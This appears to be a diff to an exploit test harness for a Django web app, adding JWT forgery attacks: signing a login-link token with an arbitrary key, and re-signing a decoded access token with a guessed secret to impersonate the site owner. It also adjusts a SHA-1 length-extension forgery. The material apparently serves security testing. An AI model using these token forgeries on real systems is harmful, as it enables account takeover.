@@ -10,11 +10,13 @@ import socket
 import time
 from urllib.parse import urlsplit
 
+import jwt
 import sha1
 from accounts.hashers import check_pin
 from accounts.models import User
 from billing.models import Invoice
 from core import crypto
+from django.conf import settings
 from django.core import mail
 from django.core.management import call_command
 from django.db import connection
@@ -22,6 +24,7 @@ from django.test import override_settings
 from django.urls import resolve
 from hooks.models import Webhook
 from orgs.models import Invitation, Organisation
+from rest_framework_simplejwt.tokens import AccessToken
 from servers import Refusing, serving
 from visitor import OTHER, OWN, OWNER, PASSWORD, READER, document, exploit, give_password, logged, organisation
 from visitor import proof_in
@@ -126,8 +129,8 @@ def longer_letter(site):
     for size in range(1, 40):  # of the secret
         longer = body + sha1.padding(size + len(body)) + b", and 1000 more"
         forged = sha1.extended(signature[:40], size + len(body), b", and 1000 more")
-        # The signature is looked at first: what is believed and then is no JSON is an error, and no refusal.
-        if send(longer, forged, refusal=(403, 500)) != 403:
+        # The signature is looked at first: what is believed and then is no JSON has another answer than this one.
+        if send(longer, forged, refusal=(400, 403, 500)) != 403:
             return f"{forged} for a secret of {size} bytes"
     return ""
 
@@ -311,6 +314,35 @@ def guessed_link(site):
         if opens(guess, refusal=404):
             return guess
     return ""
+
+
+@exploit("jwt-unverified", "accounts/tokens.py", "read_mobile_token")
+def mobile_link(site):
+    """Anybody's session, by a link that one signs oneself."""
+
+    def follow(key, **more):
+        claims = {"sub": str(User.objects.get(email=OWNER).pk), "aud": "quire-mobile-link", "exp": time.time() + 60}
+        site.clients.pop(None, None)
+        args = [jwt.encode(claims, key)]
+        return site.post("accounts:mobile", args=args, person=None, **more).headers.get("Location", "")
+
+    site.honest(follow(settings.SIMPLE_JWT["SIGNING_KEY"]) == "/dashboard/", "a link of the site's own logs in")
+    return follow("a key of one's own that is long enough", refusal=404)
+
+
+@exploit("weak-jwt", "config/settings/base.py")
+def access_token(site):
+    """Everybody's account in the API, by a token that is signed with a word from the source."""
+
+    def name(token, **more):
+        headers = {"Authorization": f"Bearer {token}"}
+        return site.get("api:me", person=None, headers=headers, **more).json().get("email", "")
+
+    token = str(AccessToken.for_user(User.objects.get(email=READER)))
+    site.honest(name(token) == READER, "a token of the site's own is good for one's account")
+    claims = jwt.decode(token, options={"verify_signature": False})
+    claims["user_id"] = str(User.objects.get(email=OWNER).pk)
+    return name(jwt.encode(claims, "quire-jwt"), refusal=401)
 
 
 @contextlib.contextmanager
